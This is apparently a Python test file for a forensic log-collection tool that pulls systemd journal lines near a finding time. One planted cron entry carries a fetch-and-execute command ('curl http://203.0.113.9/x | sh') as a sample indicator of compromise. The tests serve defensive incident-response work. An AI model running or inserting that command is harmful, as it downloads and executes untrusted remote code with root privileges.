from __future__ import annotations

from pathlib import Path

from extension.collect.journals import journal_items
from tables.host.disk.files import Files
from tests.support.journal_writer import journal

START = 1_795_430_000
PATH = "var/log/journal/0123456789abcdef0123456789abcdef/system.journal"


def plant(root: Path, data: bytes, name: str = "system.journal") -> None:
    path = root / PATH
    path.parent.mkdir(parents=True, exist_ok=True)
    (path.parent / name).write_bytes(data)


def entry(at: int, message: str, **fields: str) -> tuple[int, dict[str, str]]:
    return START + at, {"_COMM": "cron", "_PID": "77", "_HOSTNAME": "h", "MESSAGE": message, **fields}


def test_the_lines_near_a_finding_and_the_file(tmp_path: Path) -> None:
    data = journal(
        [
            entry(0, "too early"),
            entry(3400, "CMD (curl http://203.0.113.9/x | sh)", SYSLOG_IDENTIFIER="CRON", _UID="0", _SYSTEMD_UNIT="cron.service"),
            entry(4000, "two\nlines"),
            entry(9000, "too late"),
        ]
    )
    plant(tmp_path, data)
    plant(tmp_path, journal([entry(90_000, "another day")]), "user-1000.journal")
    (lines_name, lines), (name, whole) = journal_items(Files(str(tmp_path)), [START + 3600], 1 << 20)
    assert (lines_name, name) == (f"/{PATH}.txt", f"/{PATH}")
    assert lines.data is not None
    assert lines.data.decode().splitlines() == [
        "2026-11-23T11:30:00Z h CRON[77]: CMD (curl http://203.0.113.9/x | sh) (unit=cron.service uid=0)",
        "2026-11-23T11:40:00Z h cron[77]: two",
        "    lines",
    ]
    assert lines.facts["values_left_out"] == 0 and lines.facts["mode"]
    assert whole.data == data


def test_of_a_large_file_there_are_the_lines_alone(tmp_path: Path) -> None:
    plant(tmp_path, journal([entry(n, "x" * 300) for n in range(50)]))
    found = list(journal_items(Files(str(tmp_path)), [START], 4096))
    assert [name for name, _ in found] == [f"/{PATH}.txt"]
    assert found[0][1].data is not None and found[0][1].data.count(b"\n") == 50
    assert "cut_at" not in found[0][1].facts


def test_what_is_no_journal_is_said(tmp_path: Path) -> None:
    plant(tmp_path, b"LPKS")
    ((_, item),) = journal_items(Files(str(tmp_path)), [START], 1 << 20)
    assert item.data is None and item.facts["why_not"] == "not a journal file"
